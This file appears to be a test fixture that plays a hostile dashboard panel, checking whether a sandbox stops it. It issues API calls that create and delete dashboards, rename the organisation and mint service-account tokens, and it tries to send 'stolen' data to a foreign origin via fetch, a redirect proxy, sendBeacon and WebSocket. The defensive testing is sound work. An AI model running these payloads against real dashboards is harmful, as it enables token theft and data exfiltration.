// What a hostile text panel might try with the page's own powers. Every attempt is noted, with what
// came of it, in window.__hostileAttempts, so that a test can tell "tried and was stopped" from
// "never tried".

const foreign = document.getElementById('hostile').dataset.foreign;
const attempts = (window.__hostileAttempts = {});

function attempt(name, work) {
  attempts[name] = 'tried';
  Promise.resolve()
    .then(work)
    .then(
      (outcome) => (attempts[name] = `answered ${outcome}`),
      (error) => (attempts[name] = `failed: ${error.message}`),
    );
}

async function send(method, path, body) {
  const response = await fetch(new URL(path, document.baseURI), {
    method,
    headers: { 'content-type': 'application/json' },
    body: body && JSON.stringify(body),
  });
  return response.status;
}

const stolen = { dashboard: { uid: 'stolen', title: 'Stolen' }, overwrite: true };
attempt('create a dashboard', () => send('POST', 'api/dashboards/db', stolen));
attempt('delete a dashboard', () => send('DELETE', 'api/dashboards/uid/shop'));
attempt('change the organisation', () => send('PUT', 'api/org', { name: 'Stolen' }));
attempt('make a token', () => send('POST', 'api/serviceaccounts/1/tokens', { name: 'stolen' }));
attempt('read another origin', async () => (await fetch(`${foreign}/collect?from=fetch`)).status);
attempt('follow a redirect to another origin', () =>
  send(
    'GET',
    `api/datasources/proxy/uid/demo/redirect?to=${encodeURIComponent(`${foreign}/collect?from=redirect`)}`,
  ),
);
attempt('send a beacon', () => navigator.sendBeacon(`${foreign}/collect?from=beacon`, 'stolen'));
attempt('open a socket', () => {
  const socket = new WebSocket(foreign.replace('http', 'ws'));
  return new Promise((resolve, reject) => {
    socket.addEventListener('open', () => resolve('open'));
    socket.addEventListener('error', () => reject(new Error('refused')));
  });
});
attempt(
  'register a worker',
  async () => (await navigator.serviceWorker.register('public/hostile/hostile.js')).scope,
);
attempts['show a dialog'] = 'tried';
setTimeout(() => {
  window.alert('hostile');
  attempts['show a dialog'] = 'dismissed';
}, 0);
